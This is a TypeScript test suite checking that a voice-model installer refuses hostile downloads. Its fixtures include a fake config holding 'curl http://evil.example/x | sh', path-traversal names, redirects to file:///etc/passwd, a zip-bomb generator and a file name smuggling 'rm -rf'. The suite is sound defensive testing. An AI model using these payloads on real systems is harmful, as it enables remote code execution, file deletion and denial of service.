import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { crc32, deflateRawSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import AdmZip from 'adm-zip';
import { installModels } from '../../src/start/commands/models-install.js';
import { installLimits } from '../../src/start/commands/models-limits.js';
import { readVoicesIndex } from '../../src/start/commands/models-index.js';
import { buildTinyModel, tinyModelConfig } from '../synthesis/engines/piper/tiny-model.js';
import { tempModelsDir } from '../synthesis/engines/piper/tiny-voice.js';
import { buildTinyKokoro, npy, tinyRows, tinyStyles } from '../synthesis/engines/kokoro/tiny-kokoro.js';

const run = promisify(execFile);
const cli = path.resolve('dist/src/start/cli.js');
const MiB = 1024 * 1024;

type Route = (request: http.IncomingMessage, response: http.ServerResponse) => void;

/** A loopback server answering from a route table; every request is recorded. */
async function hostile(routes: Record<string, Route>, fallback?: Route) {
  const hits: string[] = [];
  const server = http.createServer((request, response) => {
    hits.push(request.url ?? '');
    const route = routes[request.url ?? ''] ?? fallback;
    if (route) route(request, response);
    else response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, port, hits, close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))) };
}

const send = (body: Buffer | string, headers: Record<string, string> = {}): Route => (_q, s) => s.writeHead(200, { 'content-length': String(Buffer.byteLength(body)), ...headers }).end(body);
/** Sends `bytes` bytes chunked, without a Content-Length (a server that does not announce the size). */
const chunked = (bytes: number): Route => (_q, s) => {
  s.writeHead(200, { 'content-type': 'application/octet-stream' });
  const chunk = Buffer.alloc(64 * 1024, 0x41);
  let left = bytes;
  const pump = () => {
    while (left > 0) {
      left -= chunk.length;
      if (!s.write(chunk)) return void s.once('drain', pump);
    }
    s.end();
  };
  s.on('error', () => undefined);
  pump();
};
const redirect = (location: string): Route => (_q, s) => s.writeHead(302, { location }).end();

/** A zip whose `count` entries each inflate to `size` zero bytes, from one deflated copy (adm-zip reads it; building it with adm-zip would deflate every entry again). */
function zerosZip(count: number, size: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(size), { level: 9 });
  const crc = crc32(Buffer.alloc(size));
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (let i = 0; i < count; i++) {
    const name = Buffer.from(`v${String(i).padStart(3, '0')}.npy`);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

describe('`orator models install` stays in MODELS_DIR and within its limits', () => {
  const workspace = tempModelsDir();
  const models = path.join(workspace.dir, 'models');
  const partial = path.join(models, '.partial');
  const onnx = Buffer.from(buildTinyModel({}));
  const config = JSON.stringify(tinyModelConfig({ speakers: [] }));
  let files: Awaited<ReturnType<typeof hostile>>;
  let other: Awaited<ReturnType<typeof hostile>>;

  /** Nothing was left behind: no file outside MODELS_DIR, nothing in .partial, no model. */
  const assertNothingLeft = (what: string) => {
    assert.deepEqual(readdirSync(workspace.dir).sort(), ['models'], `${what}: nothing beside MODELS_DIR`);
    assert.deepEqual(existsSync(partial) ? readdirSync(partial) : [], [], `${what}: nothing in .partial`);
    assert.deepEqual(readdirSync(models).filter((f) => f !== '.partial'), [], `${what}: no model`);
  };

  before(async () => {
    mkdirSync(models, { recursive: true });
    other = await hostile({}, send(onnx));
    files = await hostile(
      {
        '/shell.onnx.json': send('#!/bin/sh\ncurl http://evil.example/x | sh\n'),
        '/big-config.onnx.json': send(`{"pad":"${'x'.repeat(2 * MiB)}"}`),
        '/chunked-config.onnx.json': chunked(2 * MiB),
        '/big-model.onnx.json': send(config),
        '/big-model.onnx': send(Buffer.alloc(MiB)),
        '/chunked-model.onnx.json': send(config),
        '/chunked-model.onnx': chunked(MiB),
        '/hop.onnx.json': redirect('/tiny-target.onnx.json'),
        '/hop.onnx': redirect('/tiny-target.onnx'),
        '/tiny-target.onnx.json': send(config),
        '/tiny-target.onnx': send(onnx),
      },
      // Every other path is served as a real model or config, so only a refusal keeps it out.
      (request, response) => (request.url?.endsWith('.json') ? send(config) : send(onnx))(request, response),
    );
  });
  after(async () => {
    await files.close();
    await other.close();
    workspace.remove();
  });

  it('refuses unsafe names from URLs (..%2F, %2e%2e%2f, ..%5C, %00, a leading dot, undecodable) before fetching anything', async () => {
    for (const name of ['..%2F..%2Fescape', '%2e%2e%2fescape', '..%5Cescape', 'a%00b', '.hidden', '%E0%A4%A', 'x%0Ay', 'sub%2Fname', '..']) {
      const before = files.hits.length;
      await assert.rejects(installModels(`${files.url}/${name}.onnx`, models), /not a safe model name|does not decode/, name);
      assert.equal(files.hits.length, before, `${name}: nothing fetched`);
    }
    assertNothingLeft('unsafe names');
  });

  it('refuses a .onnx.json that is not JSON (a shell script) and keeps none of it', async () => {
    await assert.rejects(installModels(`${files.url}/shell.onnx`, models), (e: Error & { code?: string }) => e.code === 'config_invalid');
    assert.ok(!files.hits.includes('/shell.onnx'), 'the model was not fetched after its config was refused');
    assertNothingLeft('shell config');
  });

  it('caps the config at 1 MiB, announced or not, with a clear error', async () => {
    assert.equal(installLimits.configBytes, MiB);
    for (const name of ['big-config', 'chunked-config']) {
      await assert.rejects(installModels(`${files.url}/${name}.onnx`, models), /\.onnx\.json: larger than the 1 MiB an install takes for it/, name);
    }
    assertNothingLeft('big configs');
  });

  it('caps the model, announced or not', async () => {
    const limits = { ...installLimits, modelBytes: 256 * 1024 };
    for (const name of ['big-model', 'chunked-model']) {
      await assert.rejects(installModels(`${files.url}/${name}.onnx`, models, { limits }), /\.onnx: larger than the 262144 bytes an install takes for it/, name);
    }
    assertNothingLeft('big models');
  });

  it('follows a redirect within the origin named; refuses one to another origin that is not public (localhost, another loopback port, file:)', async () => {
    const [installed] = await installModels(`${files.url}/hop.onnx`, models);
    assert.equal(installed.name, 'hop');
    assert.ok(existsSync(path.join(models, 'hop.onnx')) && existsSync(path.join(models, 'hop.onnx.json')));
    for (const file of ['hop.onnx', 'hop.onnx.json']) rmSync(path.join(models, file));

    const cases: [string, string][] = [
      ['to-localhost', `http://localhost:${files.port}/tiny-target.onnx.json`],
      ['to-other-port', `${other.url}/tiny-target.onnx.json`],
      ['to-file', 'file:///etc/passwd'],
    ];
    for (const [name, location] of cases) {
      const target = await hostile({ [`/${name}.onnx.json`]: redirect(location) });
      try {
        await assert.rejects(installModels(`${target.url}/${name}.onnx`, models), /refused .*private or reserved|this machine|only http and https/, name);
      } finally {
        await target.close();
      }
    }
    assert.deepEqual(other.hits, [], 'nothing reached the other loopback server');
    assertNothingLeft('redirects');
  });

  it('index entries: their names are checked, their files elsewhere must be public, their text is made printable', async () => {
    const index = {
      evil: { language: { code: 'en_US' }, files: { '..%2F..%2Fescape.onnx': { size_bytes: 1 } } },
      elsewhere: { language: { code: 'en_US' }, files: { [`${other.url}/good-voice.onnx`]: { size_bytes: 1 } } },
      '\u001b[31mred\u0007': { language: { code: '\u001b]0;x\u0007' }, files: { 'good/good-voice.onnx': {} } },
      good: { language: { code: 'en_US' }, quality: 'x_low', files: { 'good/good-voice.onnx': { size_bytes: onnx.length } } },
    };
    const served = await hostile({ '/voices.json': send(JSON.stringify(index)), '/good/good-voice.onnx': send(onnx), '/good/good-voice.onnx.json': send(config) });
    const env = { ...process.env, MODELS_DIR: models, DATA_DIR: workspace.dir, LOG_LEVEL: 'silent' };
    try {
      const listed = await readVoicesIndex(`${served.url}/voices.json`);
      assert.ok(listed.every((v) => !/[\u0000-\u001f]/.test(v.key + v.language)), 'control characters replaced');
      const evil = await run(process.execPath, [cli, 'models', 'install', 'evil', '--index', `${served.url}/voices.json`], { env }).catch((e: { stderr: string }) => e);
      assert.match((evil as { stderr: string }).stderr, /not a safe model name/);
      const elsewhere = await run(process.execPath, [cli, 'models', 'install', 'elsewhere', '--index', `${served.url}/voices.json`], { env }).catch((e: { stderr: string }) => e);
      assert.match((elsewhere as { stderr: string }).stderr, /refused 127\.0\.0\.1:\d+: callback host 127\.0\.0\.1 is a private or reserved address \(only the host you named may be private\)/);
      assert.deepEqual(other.hits, [], 'nothing fetched from the other origin');
      assertNothingLeft('index');
      const { stdout } = await run(process.execPath, [cli, 'models', 'install', 'good', '--index', `${served.url}/voices.json`], { env });
      assert.match(stdout, /installed good-voice: 1 voice/);
    } finally {
      await served.close();
    }
    for (const file of ['good-voice.onnx', 'good-voice.onnx.json']) rmSync(path.join(models, file));
  });

  describe('Kokoro voices archives', () => {
    const source = path.join(workspace.dir, '..', `${path.basename(workspace.dir)}-src`);
    let graph: string;
    before(() => {
      mkdirSync(source, { recursive: true });
      graph = path.join(source, 'kokoro-safe.onnx');
      writeFileSync(graph, buildTinyKokoro());
    });
    after(() => rmSync(source, { recursive: true, force: true }));

    it('a 1 MB zip inflating to 1 GiB is refused from the sizes it declares, before inflating', async () => {
      const bomb = path.join(source, 'bomb.bin');
      writeFileSync(bomb, zerosZip(16, 64 * MiB));
      assert.ok(readFileSync(bomb).length < 1.1 * MiB, `${readFileSync(bomb).length} bytes`);
      const rss = process.memoryUsage().rss;
      await assert.rejects(installModels(graph, models, { voices: bomb }), /declares 67108864 bytes inflated, more than the 16777216 a voice may be/);
      assert.ok(process.memoryUsage().rss - rss < 256 * MiB, 'not inflated');
      assertNothingLeft('1 GiB bomb');
    });

    it('entries within their bound but over the total (20 × 15 MiB) are refused too', async () => {
      const wide = path.join(source, 'wide.bin');
      writeFileSync(wide, zerosZip(20, 15 * MiB));
      await assert.rejects(installModels(graph, models, { voices: wide }), /declares more than 268435456 bytes inflated \(20 entries\)/);
      assertNothingLeft('wide bomb');
    });

    it('entry names: folders are dropped (../../af_up.npy is voice af_up), an unsafe name is refused', async () => {
      const styled = npy(tinyStyles(0), [tinyRows, 1, 256]);
      const ok = new AdmZip();
      ok.addFile('../../af_up.npy', styled);
      writeFileSync(path.join(source, 'ok.bin'), ok.toBuffer());
      const [installed] = await installModels(graph, models, { voices: path.join(source, 'ok.bin') });
      assert.deepEqual(installed.voices.map((v) => v.name.eng), ['Up']);
      assert.deepEqual(readdirSync(workspace.dir).sort(), ['models']);
      rmSync(path.join(models, 'kokoro-safe'), { recursive: true });

      const bad = new AdmZip();
      bad.addFile('af_ok.npy', styled);
      bad.addFile('bad name;rm -rf.npy', styled);
      writeFileSync(path.join(source, 'bad.bin'), bad.toBuffer());
      await assert.rejects(installModels(graph, models, { voices: path.join(source, 'bad.bin') }), /"bad name;rm -rf" is not a voice name/);
      assertNothingLeft('bad entry name');
    });
  });
});
